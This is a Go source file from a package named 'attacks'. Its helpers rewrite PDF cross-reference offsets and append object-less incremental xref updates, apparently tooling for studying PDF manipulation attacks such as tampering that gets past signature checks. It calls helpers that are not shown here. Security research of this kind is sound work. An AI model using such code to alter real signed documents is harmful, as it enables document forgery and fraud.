package attacks

import (
	"bytes"
	"fmt"
	"regexp"
	"strconv"
)

var (
	entry  = regexp.MustCompile(`(?m)^(\d{10}) 00000 n`)
	marker = regexp.MustCompile(`startxref\n(\d+)\n`)
)

// shift rewrites a file with a table for a place that is n bytes further on.
func shift(file []byte, n int) []byte {
	file = entry.ReplaceAllFunc(file, func(b []byte) []byte {
		at, _ := strconv.Atoi(string(b[:10]))
		return fmt.Appendf(nil, "%010d 00000 n", at+n)
	})
	return marker.ReplaceAllFunc(file, func(b []byte) []byte {
		at, _ := strconv.Atoi(string(bytes.TrimSpace(b[len("startxref\n"):])))
		return fmt.Appendf(nil, "startxref\n%d\n", at+n)
	})
}

// tableOnly is an update without objects: a table that says where one stands.
func tableOnly(file []byte, number, at int) []byte {
	return fmt.Appendf(nil, "xref\n%d 1\n%010d 00000 n\r\ntrailer\n<< /Size %d %s /Prev %d >>\nstartxref\n%d\n%%%%EOF\n",
		number, at, size, root, lastXref(file), len(file))
}
